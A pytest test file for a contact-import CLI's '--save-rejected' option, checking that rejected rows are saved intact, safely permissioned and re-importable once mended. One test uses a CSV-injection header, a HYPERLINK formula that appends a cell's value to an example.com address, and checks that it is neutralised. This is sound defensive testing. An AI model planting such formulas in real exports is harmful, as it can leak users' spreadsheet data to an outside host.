"""``--save-rejected``: what was rejected is written as it stood, and comes in once it is mended."""

from __future__ import annotations

import csv
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from seloste.cli.main import main
from tests.conftest import Engine
from tests.database import Register, a_register
from tests.intake.import_files import CODE, Asker, acting, export, opted_in, who
from tests.intake.workbooks import workbook


@pytest.fixture(scope="module")
def register(engine: Engine) -> Iterator[Register]:
    with a_register(engine) as register:
        yield register


@pytest.fixture(autouse=True)
def home(register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An installation whose database is this register."""
    home = tmp_path / "home"
    (home / "tickets").mkdir(parents=True)
    (home / "keys").symlink_to(register.keys_folder)
    (home / "tickets" / "first").write_text(acting(register).ticket.secret.hex())
    monkeypatch.setenv("SELOSTE_HOME", str(home))
    monkeypatch.setenv("SELOSTE_DATABASE_URL", register.addresses.app)


def rows(path: Path, separator: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=separator, strict=True))


def test_a_mended_row_comes_in_by_the_same_command(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    file = export(tmp_path, "subscribed", opted_in("ehja@example.com"), Asker("rikki.example.com", "Rikki"))
    saved = tmp_path / "subscribed_rejected.csv"

    assert main(["import", str(file), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0
    head, bad = rows(saved)
    assert bad[:2] == ["rikki.example.com", "Rikki"]
    assert dict(zip(head, bad, strict=True))["seloste: reason"] == "bad_email"
    assert bad[-3:] == ["3", "bad_email", "Email Address"]
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert "in the clear" in capsys.readouterr().out

    saved.write_text(saved.read_text(encoding="utf-8-sig").replace("rikki.", "rikki@"), encoding="utf-8")
    assert main(["import", str(saved), "--source", "mailchimp"]) == 0
    assert len(who(register, "rikki@example.com")) == 1


def test_each_kind_of_damage_is_saved_as_far_as_it_can_be_read(register: Register, tmp_path: Path):
    """A row with too many cells whole, a row with a bad quote in its first cell, a code that is never stored too."""
    mapping, file, saved = tmp_path / "m.toml", tmp_path / "f.csv", tmp_path / "saved.csv"
    mapping.write_text(
        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
    )
    file.write_text(
        f'E;N\na@example.com;A;liikaa\n"b@example.com"x;B\nc@example.com;{CODE}\n+d;D\nhyva@example.com;H\n'
    )

    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    head, *found = rows(saved, ";")
    assert head == ["E", "N", "seloste: record", "seloste: reason", "seloste: column"]
    assert found[0] == ["a@example.com", "A", "liikaa", "2", "too_many_cells", ""]
    assert found[1][0] == '"b@example.com"x;B'
    assert found[2][1:] == [CODE, "4", "national_identity_code", "N"]
    assert found[3][:2] == ["'+d", "D"], "no spreadsheet evaluates it"
    assert len(found) == 4


def test_a_header_is_no_formula_in_the_file_either_and_is_itself_when_given_again(
    register: Register, tmp_path: Path
):
    """A spreadsheet evaluates it as it does a cell, and it stands above everybody's data."""
    sly = '=HYPERLINK("http://example.com/"&A2)'
    mapping, file, saved = tmp_path / "m.toml", tmp_path / "f.csv", tmp_path / "saved.csv"
    mapping.write_text(
        f'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\n\'{sly}\' = "contact.name"\n'
    )
    quoted = sly.replace('"', '""')
    file.write_text(f'E,"{quoted}"\nhuono,Ovela\nkelpo@example.com,K\n')

    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    assert rows(saved)[0][:2] == ["E", f"'{sly}"]
    saved.write_text(saved.read_text(encoding="utf-8-sig").replace("huono", "ovela@example.com"))
    assert main(["import", str(saved), "--mapping", str(mapping)]) == 0
    assert len(who(register, "ovela@example.com")) == 1


def test_files_whose_names_differ_by_their_ending_alone_lose_no_row_to_each_other(
    register: Register, tmp_path: Path
):
    mapping, saved = tmp_path / "m.toml", tmp_path / "saved"
    mapping.write_text(
        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
    )
    files = [tmp_path / "lista.csv", tmp_path / "lista.txt"]
    for number, file in enumerate(files):
        file.write_text(f"E,N\nhuono{number},A\n")

    assert main(["import", *map(str, files), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    assert sorted(row[0] for path in saved.iterdir() for row in rows(path)[1:]) == ["huono0", "huono1"]


def test_rows_of_a_workbook_become_a_table_of_text(register: Register, tmp_path: Path):
    mapping, saved = tmp_path / "m.toml", tmp_path / "saved.csv"
    mapping.write_text(
        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
    )
    file = workbook(tmp_path / "w.xlsx", [["E", "N"], ["huono", "Ääni"], ["taulukko@example.com", "T"]])

    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    assert rows(saved)[1][:2] == ["huono", "Ääni"]


def test_of_several_files_each_has_its_own_in_a_folder(register: Register, tmp_path: Path):
    """Their names keep the status by which the next command reads them."""
    one = export(tmp_path / "x", "subscribed", Asker("eka"), mark="a1")
    two = export(tmp_path / "x", "unsubscribed", Asker("toka"), Asker("kunnossa@example.com"), mark="a1")
    saved = tmp_path / "saved"

    assert main(["import", str(one), str(two), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0

    assert {path.name: len(rows(path)) for path in saved.iterdir()} == {one.name: 2, two.name: 2}


def test_a_list_of_refusals_is_saved_line_by_line_with_its_reasons_as_remarks(
    register: Register, tmp_path: Path
):
    """A line that can't be read may be a refusal that isn't applied: mended, it is."""
    file, saved = tmp_path / "kielto.txt", tmp_path / "mend.txt"
    file.write_text("# lista\n+358500003101\n12\n+358500003102\n")

    assert (
        main(
            ["import", str(file), "--source", "telephone", "--lists", "phone", "--save-rejected", str(saved)]
        )
        == 3
    )

    assert saved.read_text(encoding="utf-8-sig") == "# bad_phone, line 3\n12\n"
    saved.write_text(
        saved.read_text(encoding="utf-8-sig").replace("\n12\n", "\n+358500003103\n+358500003104\n")
    )
    assert main(["import", str(saved), "--source", "telephone", "--lists", "phone"]) == 0


def test_where_nothing_is_rejected_no_file_is_written(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    file = export(tmp_path, "subscribed", opted_in("kaikki@example.com"))
    saved = tmp_path / "saved.csv"

    assert main(["import", str(file), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0

    assert not saved.exists()
    assert "none was saved" in capsys.readouterr().out


def test_records_that_are_no_rows_are_refused_before_anything_is_stored(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    card = tmp_path / "c.vcf"
    card.write_text("BEGIN:VCARD\nVERSION:3.0\nFN:Kortti\nEMAIL:kortti@example.com\nEND:VCARD\n")

    assert (
        main(
            [
                "import",
                str(card),
                "--source",
                "business_card",
                "--relation",
                "customer_rep",
                "--save-rejected",
                str(tmp_path / "s.csv"),
            ]
        )
        == 3
    )

    assert "no rows" in capsys.readouterr().err
    assert who(register, "kortti@example.com") == []


def test_a_dry_run_saves_them_too_and_stores_nothing(register: Register, tmp_path: Path):
    file = export(tmp_path, "subscribed", opted_in("kuiva@example.com"), Asker("rikki"))
    saved = tmp_path / "subscribed.csv"

    assert (
        main(["import", str(file), "--source", "mailchimp", "--dry-run", "--save-rejected", str(saved)]) == 0
    )

    assert len(rows(saved)) == 2
    assert who(register, "kuiva@example.com") == []
